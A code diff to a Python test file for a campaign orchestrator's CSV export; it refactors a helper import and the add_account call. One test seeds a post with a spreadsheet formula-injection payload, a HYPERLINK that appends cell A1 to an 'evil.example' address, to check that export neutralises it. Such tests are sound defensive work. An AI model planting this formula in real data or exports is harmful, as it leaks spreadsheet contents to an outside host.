@@ -12,7 +12,8 @@ from channels.sandbox import SandboxServer
 from orchestrator import csvsafe, db
 from orchestrator.models import Campaign, Delivery
 from orchestrator.services.plan_io import export_deliveries
-from tests.orchestrator.helpers import add_account, approved_post, schedule
+from tests.factories import add_account
+from tests.orchestrator.helpers import approved_post, schedule
 
 
 def test_cells_that_start_a_formula_are_neutralised_and_others_untouched() -> None:
@@ -25,7 +26,7 @@ def test_cells_that_start_a_formula_are_neutralised_and_others_untouched() -> No
 
 
 def test_the_deliveries_export_neutralises_texts_and_platform_values(engine: sa.Engine, sandbox: SandboxServer) -> None:
-    account = add_account(engine, sandbox.url, kind="mastodon")
+    account = add_account(engine, "mastodon", name="mastodon-test", base_url=sandbox.url)
     post_id = approved_post(engine, text='=HYPERLINK("https://evil.example/?d="&A1,"Cliquez") pour Juan López')
     delivery_id = schedule(engine, post_id, account)
     with db.session_scope(engine) as session:
